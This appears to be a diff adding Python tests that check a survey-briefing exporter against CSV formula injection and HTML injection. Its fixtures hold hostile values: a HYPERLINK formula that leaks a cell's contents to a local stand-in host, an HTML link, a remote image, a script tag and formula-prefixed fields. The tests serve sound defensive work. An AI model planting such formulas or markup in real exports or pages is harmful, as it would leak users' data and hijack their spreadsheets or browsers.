@@ -66,3 +66,41 @@ def test_the_html_makes_no_request_and_escapes_what_people_typed(engine, analyse
     with zipfile.ZipFile(io.BytesIO(briefing_csv_zip(briefing.tables))) as archive:
         actions = archive.read("actions.csv").decode()
     assert ",'<script>" not in actions and "<script>alert(1)</script> =HYPERLINK" in actions
+
+
+FORMULA = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Click for bonus")'
+LINK = '<a href="http://127.0.0.1:9/bonus">Nine</a>'
+
+
+def hostile_briefing(engine):
+    """A wave whose team names are a formula, a link and an image, and an action typed as formulas."""
+    with session_scope(engine) as session:
+        wave = add_wave(session, "Hostile", date(2026, 9, 1), {
+            FORMULA: answers(9, morale=3), LINK: answers(9, morale=4), "@SUM(1+1)": answers(1, morale=1),
+            "![x](http://127.0.0.1:9/p.png)": answers(2, morale=2),
+        })
+        create_action(session=session, theme="tools", title=FORMULA, owner="+44 20 7946 0000", due_on=None,
+                      published=True, created_by="-exec")
+        return build_briefing(session=session, wave_id=wave, job_id=None, thresholds=FIVE)
+
+
+def test_no_cell_of_the_briefing_zip_can_run_as_a_formula(engine):
+    import csv
+
+    briefing = hostile_briefing(engine)
+    with zipfile.ZipFile(io.BytesIO(briefing_csv_zip(briefing.tables))) as archive:
+        assert {"heatmap_team.csv", "actions.csv"} <= set(archive.namelist())
+        cells = {name: [cell for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8"), newline=""))
+                        for cell in row] for name in archive.namelist()}
+    runnable = [(name, c) for name, found in cells.items() for c in found if c.startswith(("=", "+", "-", "@"))]
+    assert runnable == []
+    assert "'" + FORMULA in cells["heatmap_team.csv"] and "'" + FORMULA in cells["actions.csv"]
+
+
+def test_names_typed_as_html_are_text_in_the_briefing_and_its_charts(engine):
+    page = hostile_briefing(engine).html
+    outside_plotly = re.sub(r"<script[^>]*>(?:(?!</script>).){100000,}?</script>", "", page, flags=re.S)
+    assert not re.search(r"<a[\s>]|<img[\s>]", outside_plotly, re.I)  # neither in the tables nor in chart data
+    assert "&lt;a href=" in outside_plotly  # the name is there, as text
+    charts = "".join(re.findall(r"Plotly\.newPlot\((.*?)\)\s*};?", page, flags=re.S))
+    assert "&lt;a href=" in charts and "<a href" not in charts
